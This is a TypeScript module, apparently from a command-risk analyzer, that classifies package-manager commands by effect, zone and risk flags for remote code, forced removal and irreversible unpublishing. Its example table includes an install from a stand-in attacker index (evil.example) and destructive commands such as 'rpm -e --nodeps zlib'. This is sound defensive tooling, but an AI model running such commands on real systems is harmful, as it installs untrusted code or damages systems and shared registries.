import type { Flag } from '../../core/effect.ts';
import type { CommandEffect, CommandFamily, CommandWords, NestedRun } from '../../core/ports.ts';
import { isDynamic, names, type Operand, type Options, readOptions, subcommandAt } from '../arguments.ts';
import { touchAll } from '../file-effects.ts';
import { readUrl } from '../hosts.ts';
import { addedSource, published } from '../publishing.ts';
import { locate } from '../zones.ts';

const values = names(
  '-w --workspace --prefix -C --cwd --dir --filter -F -r --requirement -c --constraint -i --index-url --extra-index-url --registry -t --target --python -p --package --version -e --editable --features --bin --manifest-path --git --path --root -j --from --with --tag --otp --access -n --name --channel -f --find-links --userconfig --cache --target-dir --example --test --profile -o --options',
);

const npmRuns = names('run run-script test t start stop restart build dev lint exec x dlx');
const installs = names('install i ci add in upgrade up update get');
const removes = names('uninstall remove rm un r purge autoremove erase unlink delete');
const publishes = names('publish deploy');

/** Package manager → where its packages come from when nothing else is said. */
const sources: Readonly<Record<string, string>> = {
  npm: 'registry.npmjs.org',
  pnpm: 'registry.npmjs.org',
  yarn: 'registry.npmjs.org',
  bun: 'registry.npmjs.org',
  bunx: 'registry.npmjs.org',
  npx: 'registry.npmjs.org',
  pip: 'pypi.org',
  pip3: 'pypi.org',
  pipx: 'pypi.org',
  uv: 'pypi.org',
  uvx: 'pypi.org',
  poetry: 'pypi.org',
  pipenv: 'pypi.org',
  pdm: 'pypi.org',
  rye: 'pypi.org',
  easy_install: 'pypi.org',
  conda: 'conda.anaconda.org',
  mamba: 'conda.anaconda.org',
  micromamba: 'conda.anaconda.org',
  cargo: 'crates.io',
  gem: 'rubygems.org',
  bundle: 'rubygems.org',
  bundler: 'rubygems.org',
  composer: 'packagist.org',
  go: 'proxy.golang.org',
  brew: 'brew.sh',
  apt: 'apt',
  'apt-get': 'apt',
  aptitude: 'apt',
  dpkg: 'apt',
  yum: 'yum',
  dnf: 'dnf',
  zypper: 'zypper',
  pacman: 'pacman',
  apk: 'apk',
  snap: 'snapcraft.io',
  flatpak: 'flathub.org',
  port: 'macports',
  choco: 'chocolatey.org',
  winget: 'winget',
  scoop: 'scoop',
  nix: 'nixos.org',
  'nix-env': 'nixos.org',
  deno: 'deno.land',
  mix: 'hex.pm',
  cabal: 'hackage',
  stack: 'hackage',
  luarocks: 'luarocks.org',
  cpan: 'cpan.org',
  cpanm: 'cpan.org',
  opam: 'opam',
  rustup: 'rustup.rs',
  helmfile: 'helm',
  asdf: 'asdf',
  mise: 'mise',
  volta: 'nodejs.org',
  nvm: 'nodejs.org',
  pyenv: 'python.org',
  rbenv: 'ruby-lang.org',
  corepack: 'registry.npmjs.org',
  code: 'marketplace.visualstudio.com',
  cursor: 'marketplace.visualstudio.com',
};
const systemWide = new Set([
  'apt',
  'apt-get',
  'aptitude',
  'dpkg',
  'yum',
  'dnf',
  'zypper',
  'pacman',
  'apk',
  'snap',
  'flatpak',
  'port',
  'brew',
  'choco',
  'winget',
]);

function install(operand: Operand | undefined, flags: readonly Flag[] = []): CommandEffect {
  const text = operand?.text ?? (operand ? null : '');
  const marks: Flag[] = [...flags];
  if (isDynamic(text)) marks.push('dynamic');
  const arg = operand ? { arg: operand.arg } : {};
  const name = text === null ? '' : text;
  if (
    text !== null &&
    /^(?:[a-z+]+:\/\/|git@|git\+|github:|gitlab:|bitbucket:|gist:)/i.test(text) &&
    !text.startsWith('file:')
  ) {
    marks.push('remote-code');
    return {
      verb: 'install',
      resource: { kind: 'package', name: clean(text) },
      zone: 'other-host',
      flags: marks,
      ...arg,
    };
  }
  const local = /^(?:\.{1,2}(?:\/|$)|\/|~|file:)|\.(?:whl|tgz|tar\.gz|deb|rpm|gem|vsix|pkg)$/.test(name);
  return {
    verb: 'install',
    resource: { kind: 'package', name },
    zone: local ? 'this-host' : 'other-host',
    flags: marks,
    ...arg,
  };
}

/** No user, password or query of a URL goes into a name. */
function clean(url: string): string {
  return url.replace(/\/\/[^@/]*@/, '//').replace(/[?#].*$/, '');
}

function here(program: string, { place }: CommandWords): CommandEffect {
  const at = locate('.', place, 'directory');
  return {
    verb: 'execute',
    resource: { kind: 'process', name: program },
    zone: at.zone === 'repository' ? 'repository' : 'this-host',
    flags: [],
  };
}

function registry(options: Options): readonly CommandEffect[] {
  return options
    .all('--registry', '-i', '--index-url', '--extra-index-url', '-f', '--find-links')
    .flatMap(({ text, arg }) => {
      if (text === null || !text.includes('://')) return [];
      const { host, zone } = readUrl(text);
      return [{ verb: 'receive' as const, resource: { kind: 'host' as const, name: host }, zone, flags: [], arg }];
    });
}

function flagsOf(options: Options, program: string): Flag[] {
  const out: Flag[] = [];
  if (options.has('-f', '--force', '--break-system-packages', '--allow-unauthenticated', '--no-verify'))
    out.push('forced');
  if (options.has('--dry-run', '-n', '--simulate', '-s') && program !== 'yarn') out.push('dry-run');
  return out;
}

function effects(words: CommandWords): readonly CommandEffect[] {
  const { program, args } = words;
  const source = addedSource(words) ?? published(words);
  if (source) return source;
  if (/^(?:npx|bunx|uvx|pnpx)$/.test(program)) return runner(words, 0);
  const at = subcommandAt(args, values);
  const sub = at < 0 ? null : (args[at] ?? null);
  const options = readOptions(args, values, { from: Math.max(0, at + 1) });
  if (sub === null)
    return at >= 0
      ? [{ ...here(program, words), flags: ['dynamic'] }]
      : program === 'yarn' || program === 'bundle'
        ? [install(undefined)]
        : [];
  if (program === 'pacman' && args.some((arg) => /^-R/.test(arg ?? '')))
    return removedByOption(words, /^-R[a-z]*[dcn]/);
  if (
    (program === 'rpm' && args.some((arg) => /^(?:-e|--erase)/.test(arg ?? ''))) ||
    (program === 'dpkg' && args.some((arg) => /^(?:-r|-P|--remove|--purge)$/.test(arg ?? '')))
  )
    return removedByOption(words, /^(?:--nodeps|--force-\S+|--allmatches)$/);
  if (program === 'pacman')
    return /^-S/.test(sub) || args.some((arg) => /^-[SU]/.test(arg ?? ''))
      ? options.operands.map((operand) => install(operand))
      : [];
  if (program === 'uv' || program === 'rye') return uv(words, sub, at);
  if (program === 'go') return go(words, sub, options);
  if (program === 'cargo' && !/^(?:install|add|uninstall|remove|rm|publish|yank|login|owner)$/.test(sub))
    return [here(program, words)];
  if (program === 'deno') return deno(words, sub, options);
  if (program === 'code' || program === 'cursor') return editorExtension(args);
  if (publishes.has(sub))
    return [
      {
        verb: 'read',
        resource: { kind: 'directory', name: locate('.', words.place, 'directory').name },
        zone: 'repository',
        flags: [],
      },
      {
        verb: 'send',
        resource: { kind: 'package', name: sources[program] ?? program },
        zone: 'other-host',
        flags: flagsOf(options, program),
      },
    ];
  if (installs.has(sub)) return installed(words, options, sub);
  if (/^(?:remove|uninstall|autoremove|purge)$/.test(sub) && options.operands.length === 0)
    return withoutNames(words, sub, options);
  if (removes.has(sub))
    return options.operands.map(({ text, arg }) => ({
      verb: 'delete' as const,
      resource: { kind: 'package' as const, name: text ?? '' },
      zone: systemWide.has(program) ? ('system' as const) : ('repository' as const),
      flags: flagsOf(options, program),
      arg,
    }));
  if (/^(?:dlx|x|exec)$/.test(sub) && !/^(?:bundle|poetry|pipenv)$/.test(program)) return runner(words, at + 1);
  if (npmRuns.has(sub) || /^(?:run|exec|shell)$/.test(sub)) return [here(program, words)];
  if (/^(?:config|set|login|adduser|token|owner|access|dist-tag|deprecate|unpublish|yank|team|org)$/.test(sub))
    return account(program, sub, options);
  if (/^(?:env|envs)$/.test(sub) && /^(?:remove|rm|delete)$/.test(options.operands[0]?.text ?? ''))
    return [environment(options)];
  if (
    /^(?:ls|list|ll|la|view|info|show|outdated|audit|search|why|explain|help|version|doctor|freeze|check|policy|cache|config|root|prefix|bin|query|pkg|fund|ping|tree|licenses|deps|outdated|history|leaves|cat|env|envs)$/.test(
      sub,
    )
  )
    return sub === 'cache'
      ? cacheCleared(program, options)
      : [
          {
            verb: 'read',
            resource: { kind: 'package', name: options.operands[0]?.text ?? '' },
            zone: 'this-host',
            flags: [],
          },
        ];
  return [here(program, words)];
}

/** A whole environment with all that was put into it. */
const environment = (options: Options): CommandEffect => ({
  verb: 'delete',
  resource: {
    kind: 'package',
    name: options.value('-n', '--name', '-p', '--prefix')?.text ?? options.operands[1]?.text ?? '',
  },
  zone: 'home',
  flags: ['bulk'],
});

/** What was fetched is fetched again; it only takes time. */
function cacheCleared(program: string, options: Options): readonly CommandEffect[] {
  if (!/^(?:clean|clear|purge|prune|rm|remove)$/.test(options.operands[0]?.text ?? '')) return [];
  const name = `${program} cache`;
  return [{ verb: 'delete', resource: { kind: 'package', name }, zone: 'home', flags: flagsOf(options, program) }];
}

/** `rpm -e x`, `dpkg --purge x`, `pacman -R x`; forced when what depends on it is left without. */
function removedByOption({ args }: CommandWords, unasked: RegExp): readonly CommandEffect[] {
  const flags: Flag[] = args.some((arg) => unasked.test(arg ?? '')) ? ['forced', 'bulk'] : [];
  return args.flatMap((text, arg) =>
    text?.startsWith('-')
      ? []
      : [
          {
            verb: 'delete' as const,
            resource: { kind: 'package' as const, name: text ?? '' },
            zone: 'system' as const,
            flags,
            arg,
          },
        ],
  );
}

/** Taken away by a list, with all that came with it, or a whole environment: `pip uninstall -r x`, `conda remove --all`. */
function withoutNames({ program, args }: CommandWords, sub: string, options: Options): readonly CommandEffect[] {
  const list = options.value('-r', '--requirement');
  const whole = options.has('--all', '-a', '--purge') || args.some((arg) => /^-[a-z]*a[a-z]*[A-Z]?x?$/.test(arg ?? ''));
  if (!list && !whole && sub !== 'purge') return [here(program, { program, args, place: { cwd: '', home: '' } })];
  const name = list?.text ?? options.value('-n', '--name')?.text ?? 'all that nothing else needs';
  const zone = systemWide.has(program) ? ('system' as const) : ('home' as const);
  return [{ verb: 'delete', resource: { kind: 'package', name }, zone, flags: [...flagsOf(options, program), 'bulk'] }];
}

function installed(words: CommandWords, options: Options, sub: string): readonly CommandEffect[] {
  const { program, place } = words;
  const flags = flagsOf(options, program);
  const lists = options.all('-r', '--requirement');
  const out: CommandEffect[] = [...registry(options), ...touchAll('read', lists, place)];
  const targets = [
    ...options.operands,
    ...options.all('-e', '--editable', '--git').filter(({ text }) => text !== null),
  ];
  if ((program === 'apt' || program === 'apt-get' || program === 'brew' || program === 'apk') && sub === 'update')
    return [
      { verb: 'receive', resource: { kind: 'host', name: sources[program] ?? program }, zone: 'other-host', flags: [] },
    ];
  if (targets.length === 0) return [...out, install(undefined, flags)];
  return [...out, ...targets.map((operand) => install(operand, flags))];
}

/** `npx tool`: what is not installed is fetched and run at once. */
function runner(words: CommandWords, from: number): readonly CommandEffect[] {
  const options = readOptions(words.args, names('-p --package -c --call --from --with --python -w --workspace'), {
    from,
    stopAtOperand: true,
  });
  const tool = options.operands[0];
  const packages = [...options.all('-p', '--package', '--from', '--with'), ...(tool ? [tool] : [])];
  const pinned = options.has('--no-install', '--no', '--offline');
  return packages.map((operand) => {
    const fetched = install(operand);
    const remote =
      fetched.flags.includes('remote-code') || /@latest$/.test(operand.text ?? '') || options.has('-y', '--yes');
    const zone = pinned ? 'repository' : fetched.flags.includes('remote-code') ? 'other-host' : 'repository';
    return {
      verb: 'execute' as const,
      resource: { kind: 'package' as const, name: fetched.resource.name },
      zone,
      flags: fetched.flags.includes('remote-code') ? fetched.flags : remote ? fetched.flags : fetched.flags,
      arg: operand.arg,
    };
  });
}

function uv(words: CommandWords, sub: string, at: number): readonly CommandEffect[] {
  const { args } = words;
  if (sub === 'pip' || sub === 'tool')
    return effects({ ...words, program: 'pip', args: args.slice(at + 1) }).map((effect) =>
      effect.arg === undefined ? effect : { ...effect, arg: effect.arg + at + 1 },
    );
  if (sub === 'run') return [];
  const options = readOptions(args, values, { from: at + 1 });
  if (sub === 'add' || sub === 'sync' || sub === 'install')
    return installed({ ...words, program: 'pip' }, options, sub);
  if (sub === 'publish')
    return [{ verb: 'send', resource: { kind: 'package', name: 'pypi.org' }, zone: 'other-host', flags: [] }];
  return [here('uv', words)];
}

function go(words: CommandWords, sub: string, options: Options): readonly CommandEffect[] {
  if (sub === 'install' || sub === 'get') return options.operands.map((operand) => install(operand));
  if (sub === 'run' && /^[\w.-]+\.[a-z]+\/.*@/.test(options.operands[0]?.text ?? ''))
    return [{ ...install(options.operands[0], ['remote-code']), verb: 'execute' }];
  if (sub === 'mod' || sub === 'env' || sub === 'version' || sub === 'list' || sub === 'doc' || sub === 'help')
    return sub === 'mod' && /download|tidy/.test(options.operands[0]?.text ?? '') ? [install(undefined)] : [];
  if (sub === 'clean' && options.has('-modcache', '-cache'))
    return [
      { verb: 'delete', resource: { kind: 'directory', name: 'go module cache' }, zone: 'home', flags: ['bulk'] },
    ];
  return [here('go', words)];
}

function deno(words: CommandWords, sub: string, options: Options): readonly CommandEffect[] {
  const [target] = options.operands;
  if ((sub === 'run' || sub === 'install' || sub === 'eval') && /^https?:/.test(target?.text ?? ''))
    return [{ ...install(target, ['remote-code']), verb: 'execute' }];
  return [here('deno', words)];
}

function editorExtension(args: readonly (string | null)[]): readonly CommandEffect[] {
  // A way in from outside to this machine's files and shell.
  if (args[0] === 'tunnel' && !/^(?:status|help|kill|unregister|prune|user)$/.test(args[1] ?? ''))
    return [
      {
        verb: 'grant',
        resource: { kind: 'host', name: 'editor tunnel' },
        zone: 'other-host',
        flags: [],
        arg: 0,
      },
    ];
  const at = args.indexOf('--install-extension');
  return at < 0 ? [] : [install({ text: args[at + 1] ?? null, arg: Math.min(at + 1, args.length - 1) })];
}

function account(program: string, sub: string, options: Options): readonly CommandEffect[] {
  const [what, key, value] = options.operands;
  if (sub === 'unpublish' || sub === 'yank')
    return [
      {
        verb: 'delete',
        resource: { kind: 'package', name: what?.text ?? '' },
        zone: 'other-host',
        flags: ['irreversible', ...flagsOf(options, program)],
      },
    ];
  if (sub === 'config' || sub === 'set') {
    if (what?.text === 'set' && /registry|proxy|ignore-scripts|_auth|script-shell|index-url/.test(key?.text ?? ''))
      return [
        {
          verb: 'configure',
          resource: { kind: 'package', name: key?.text?.split('=')[0] ?? '' },
          zone: 'home',
          flags: [],
          arg: value?.arg ?? key?.arg ?? 0,
        },
      ];
    return /^(?:get|list|ls)$/.test(what?.text ?? '')
      ? []
      : [
          {
            verb: 'configure',
            resource: { kind: 'package', name: key?.text?.split('=')[0] ?? '' },
            zone: 'home',
            flags: [],
          },
        ];
  }
  if (sub === 'deprecate' || (sub === 'dist-tag' && /^(?:rm|remove)$/.test(what?.text ?? '')))
    return [
      {
        verb: 'delete',
        resource: { kind: 'package', name: (sub === 'deprecate' ? what : key)?.text ?? '' },
        zone: 'other-host',
        flags: flagsOf(options, program),
      },
    ];
  if (sub === 'owner' || sub === 'access' || sub === 'team' || sub === 'org')
    return [{ verb: 'grant', resource: { kind: 'package', name: what?.text ?? '' }, zone: 'other-host', flags: [] }];
  if (sub === 'token')
    return [
      { verb: 'read', resource: { kind: 'secret', name: `${program} token` }, zone: 'credential-store', flags: [] },
    ];
  return [{ verb: 'configure', resource: { kind: 'package', name: program }, zone: 'other-host', flags: [] }];
}

/** `poetry run pytest`, `bundle exec rake`, `uv run x`, `npx -c '…'`: the command inside. */
/** `deno eval CODE`, `bun -e CODE`. */
function inlineCode({ program, args }: CommandWords): NestedRun | null {
  const at =
    program === 'bun'
      ? args.findIndex((arg) => /^(?:-e|-p|--eval|--print)$/.test(arg ?? '')) + 1
      : args[0] === 'eval'
        ? args.findIndex((arg, i) => i > 0 && !arg?.startsWith('-'))
        : 0;
  return at <= 0 || at >= args.length ? null : { kind: 'code', language: 'node', text: args[at] ?? null, arg: at };
}

function runs(words: CommandWords): readonly NestedRun[] {
  const { program, args } = words;
  const code = program === 'deno' || program === 'bun' ? inlineCode(words) : null;
  if (code !== null) return [code];
  if (program === 'npx' || program === 'npm') {
    const call = readOptions(args, names('-c --call -p --package')).value('-c', '--call');
    return call ? [{ kind: 'shell', text: call.text, arg: call.arg }] : [];
  }
  const at = subcommandAt(args, values);
  const sub = at < 0 ? null : args[at];
  const passes =
    (sub === 'run' && /^(?:poetry|pipenv|uv|pdm|rye|conda|mamba|micromamba|hatch)$/.test(program)) ||
    (sub === 'exec' && /^(?:bundle|bundler|yarn|pnpm|mise|asdf|rbenv|pyenv|opam|stack|cabal)$/.test(program));
  if (!passes) return [];
  const inner = readOptions(
    args,
    names('-n --name -p --prefix --with --python --package --extra --group --from --env-file --directory'),
    { from: at + 1, stopAtOperand: true },
  );
  const first = inner.operands[0];
  return first ? [{ kind: 'words', from: first.arg }] : [];
}

export const packages: CommandFamily = {
  id: 'packages',
  programs: [
    ...Object.keys(sources),
    'pnpx',
    'hatch',
    'add-apt-repository',
    'apt-add-repository',
    'yum-config-manager',
    'dnf5',
    'apt-key',
    'rpm',
  ].filter((name) => name !== 'helmfile'),
  effects,
  runs,
  examples: [
    ['npm install', 'install package other-host'],
    ['npm install lodash', 'install package other-host'],
    ['npm test', 'execute process repository'],
    ['npm run build', 'execute process repository'],
    ['npx vitest run', 'execute package repository'],
    ['pip install -r requirements.txt', 'read file repository', 'install package other-host'],
    ['pip install git+https://github.com/a/b', 'install package other-host'],
    ['pip install --index-url https://evil.example/simple x', 'receive host other-host', 'install package other-host'],
    ['sudo apt-get install -y jq', 'impersonate user this-host', 'install package other-host'],
    ['cargo build --release', 'execute process repository'],
    ['cargo publish', 'read directory repository', 'send package other-host'],
    ['go test ./...', 'execute process repository'],
    ['poetry run rm x', 'execute process repository', 'delete file repository'],
    ['npm publish --dry-run', 'read directory repository', 'send package other-host'],
    ['npm unpublish left-pad --force', 'delete package other-host'],
    ['npm deprecate left-pad "use padStart"', 'delete package other-host'],
    ['conda env remove -n shop', 'delete package home'],
    ['pip uninstall -y -r requirements.txt', 'delete package home'],
    ['rpm -e --nodeps zlib', 'delete package system'],
    ['npm cache clean --force', 'delete package home'],
    ['gem push x.gem', 'read directory repository', 'send package other-host'],
    ['brew tap acme/tools', 'configure package home'],
    ['brew list', 'read package this-host'],
    ['npm config set registry http://r.example', 'configure package home'],
    ['npm uninstall left-pad', 'delete package repository'],
  ],
};
